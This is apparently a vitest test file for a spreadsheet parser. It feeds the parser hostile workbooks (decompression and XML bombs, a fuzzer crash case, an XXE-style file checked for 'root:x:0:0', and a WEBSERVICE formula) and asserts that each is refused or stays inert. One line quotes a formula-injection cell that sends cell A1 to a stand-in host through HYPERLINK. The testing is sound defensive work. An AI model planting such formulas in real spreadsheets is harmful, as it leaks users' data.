import { existsSync, readFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { describe, expect, test } from 'vitest'
import { readFile, type ReadFile } from './docx/testing/officeFile'
import { format as csv } from './csv'
import { format } from './xlsx'

const corpus = process.env.CARREL_CORPUS ?? resolve(import.meta.dirname, '../../../../shared/corpus')
const present = existsSync(join(corpus, 'documents'))
if (!present) console.log(`skipped: no evaluation corpus at ${corpus}; set CARREL_CORPUS to read its workbooks`)

const read = (path: string, password?: string): Promise<ReadFile> =>
  readFile(path.endsWith('.csv') ? csv : format, readFileSync(join(corpus, path)), { name: path, ...(password ? { password } : {}) })
const hostile = (name: string, password?: string) => read(`hostile/dev/files/${name}`, password)

describe.runIf(present)('workbooks of the corpus', () => {
  test('a sheet of a million rows gives the seven that hold data', async () => {
    const { pages } = await read('documents/xlsx_04_inflated.xlsx')
    expect(pages.map(({ title }) => title)).toEqual(['Sheet1', 'Sheet2', 'Sheet3', 'Sheet4 (hidden sheet)'])
    expect(pages[0]!.text.split('\n')).toHaveLength(2 + 8)
    expect(pages[0]!.text).toContain('| first | second | third |\n| --- | --- | --- |\n| 1 | 5 | 9 |')
    expect(pages[0]!.anchors!.at(-1)!.place).toEqual({ kind: 'cells', sheet: 'Sheet1', range: 'A7:C7' })
    expect(pages[1]!.blocks.filter(({ kind }) => kind === 'table')).toHaveLength(3)
  })

  test('encrypted ones ask for a password, and open with it', async () => {
    await expect(read('documents/password_protected.xlsx')).rejects.toMatchObject({ code: 'DOCUMENT_PASSWORD' })
    await expect(hostile('poi__60320-protected.xlsx')).rejects.toMatchObject({ code: 'DOCUMENT_PASSWORD' })
    await expect(hostile('poi__60320-protected.xlsx', 'wrong')).rejects.toMatchObject({
      message: expect.stringContaining('not the right one'),
    })
    expect((await hostile('poi__60320-protected.xlsx', 'Test001!!')).pages.length).toBeGreaterThan(0)
  })

  test('bombs are refused, and say why', async () => {
    await expect(hostile('bomb-shared-strings.xlsx')).rejects.toMatchObject({ code: 'DOCUMENT_TOO_LARGE' })
    await expect(hostile('poi__poc-shared-strings.xlsx')).rejects.toMatchObject({ code: 'DOCUMENT_TOO_LARGE' })
    await expect(hostile('poi__poc-xmlbomb.xlsx')).rejects.toMatchObject({
      code: 'DOCUMENT_CORRUPT',
      message: expect.stringContaining('document type'),
    })
    await expect(hostile('poi__clusterfuzz-testcase-minimized-POIXSSFFuzzer-4828727001088000.xlsx')).rejects.toMatchObject({
      code: 'DOCUMENT_CORRUPT',
    })
  })

  test('claims, formulas and entities do nothing', async () => {
    const liar = await hostile('dimension-liar.xlsx')
    expect(liar.pages[0]!.text).toContain('The quarterly figure is 4711 euros.\n\ncorner cell')
    expect(liar.pages[0]!.anchors!.map(({ place }) => place)).toMatchObject([{ range: 'A1' }, { range: 'XFD1048576' }])
    expect((await hostile('formula-webservice.xlsx')).pages[0]!.text).toContain('| The quarterly figure is 4711 euros. | 0 | 0 |')
    expect((await hostile('poi__xlsx-corrupted.xlsx')).pages.map(({ text }) => text).join()).not.toContain('root:x:0:0')
    expect((await hostile('formula-injection.csv')).pages[0]!.text).toContain('| =HYPERLINK("http://127.0.0.1:9/?x="&A1,"click") | 1 |')
  })
})
